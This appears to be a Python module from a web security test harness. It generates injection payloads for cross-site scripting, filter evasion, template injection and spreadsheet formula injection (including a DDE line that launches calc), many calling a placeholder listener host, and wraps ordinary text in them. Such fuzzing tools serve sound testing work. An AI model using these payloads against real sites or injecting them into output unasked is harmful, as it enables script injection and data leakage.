"""Texts that try to become markup, script, a request to another host, or a formula: made from contexts and tricks."""

from __future__ import annotations

from itertools import cycle, product

# How a text leaves the place where a careless page would put it.
_WAYS_OUT = ("", '"', "'", '">', "'>", "</p>", "</textarea>", "</title>", "</script>", "</style>", "-->", "]]>", "`")
# What it does outside; TRAP is an address where somebody listens. Every element is marked, so that one that was made of
# a text is found even where the page's policy disarms it.
_DEEDS = (
    "<script data-x>window.__x=1</script>",
    "<img data-x src=x onerror=window.__x=1>",
    "<svg data-x onload=window.__x=1><animate data-x onbegin=window.__x=1 attributeName=x>",
    "<svg data-x><script data-x>window.__x=1</script><feImage data-x href='TRAP/fe'/></svg>",
    "<math data-x><mtext><table><mglyph><style><img data-x src=x onerror=window.__x=1>",
    "<iframe data-x srcdoc='&lt;script>parent.__x=1&lt;/script>'></iframe>",
    "<iframe data-x src=javascript:parent.__x=1></iframe>",
    "<object data-x data=TRAP/o></object><embed data-x src=TRAP/e>",
    "<link data-x rel=stylesheet href=TRAP/l><link data-x rel=preload as=image href=TRAP/p>",
    "<style data-x>@import 'TRAP/i'; body{background:url(TRAP/b)}</style>",
    "<meta data-x http-equiv=refresh content='0;url=TRAP/m'><base data-x href=TRAP/>",
    "<video data-x poster=TRAP/v src=x onerror=window.__x=1 autoplay></video>",
    "<img data-x srcset='TRAP/s 1x' src=TRAP/t><body data-x background=TRAP/u onload=window.__x=1>",
    "<a data-x href=javascript:window.__x=1 autofocus onfocus=window.__x=1 tabindex=0>",
    "<input data-x autofocus onfocus=window.__x=1><details data-x open ontoggle=window.__x=1>",
    "<form data-x action=TRAP/f><button data-x formaction=javascript:window.__x=1>",
)
# Tricks that look at the place and not at the markup.
_TRICKS = (
    '" onmouseover="window.__x=1" autofocus onfocus="window.__x=1" data-x="',
    "' onfocus='window.__x=1' autofocus data-x='",
    " data-x onfocus=window.__x=1 autofocus tabindex=0 ",
    "javascript:window.__x=1",
    "jAvAsCrIpT&colon;window.__x=1",
    "java\tscript:window.__x=1",
    "data:text/html,<script data-x>window.__x=1</script>",
    "//TRAPHOST/protocol-relative",
    "TRAP/plain-address",
    "{{ 7*'7' }}{% print 1 %}${7*7}#{7*7}<%= 7*7 %>",
    "';window.__x=1;//",
    '";window.__x=1;//',
    "\\u003cscript data-x\\u003ewindow.__x=1\\u003c/script\\u003e",
    "&lt;script data-x&gt;window.__x=1&lt;/script&gt;",
    "&#60;img data-x src=x onerror=window.__x=1&#62;",
    "%3Cscript%20data-x%3Ewindow.__x=1%3C/script%3E",
    "+ADw-script data-x+AD4-window.__x=1+ADw-/script+AD4-",
    "＜script data-x＞window.__x=1＜/script＞",
    "<\x00script data-x>window.__x=1</script>",
    "<scr<script data-x>ipt>window.__x=1</scr</script>ipt>",
    "<IMG DATA-X SRC=x OnErRoR=window.__x=1>",
    "<img/data-x/src=x/onerror=window.__x=1>",
    "<img data-x src=x\nonerror\n=\nwindow.__x=1>",
    "<!--><img data-x src=x onerror=window.__x=1>-->",
    "<![CDATA[<img data-x src=x onerror=window.__x=1>]]>",
    "<noscript><p title='</noscript><img data-x src=x onerror=window.__x=1>'>",
    "url(TRAP/css) expression(window.__x=1) -moz-binding:url(TRAP/xbl)",
    "\u202e<img data-x src=x onerror=window.__x=1>\u202c",
    "\u2028window.__x=1\u2029",
    "=HYPERLINK('TRAP/cell')",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
)


def payloads(trap: str) -> list[str]:
    """Return all texts, each of which calls ``trap`` when it calls anybody (``http://host:port``)."""
    texts = [way + deed for way, deed in product(_WAYS_OUT, _DEEDS)] + list(_TRICKS)
    host = trap.removeprefix("http://")
    return [text.replace("TRAPHOST", host).replace("TRAP", trap) for text in texts]


class HostileWords:
    """Makes something hostile of whatever is said, with another payload each time."""

    def __init__(self, trap: str) -> None:
        self.all = payloads(trap)
        self.said: set[str] = set()
        self._long = cycle(self.all)
        self._short = cycle([text for text in self.all if len(text) < 80 and text.isprintable()])

    def __call__(self, text: str) -> str:
        """Return the text behind a payload that fits into a line; a sentence gets a dozen of any length."""
        if text.endswith("。"):
            many = [next(self._long) for _ in range(24)]
            self.said.update(many)
            return "\n".join([*many, text])
        one = next(self._short)
        self.said.add(one)
        return f"{one}{text}"
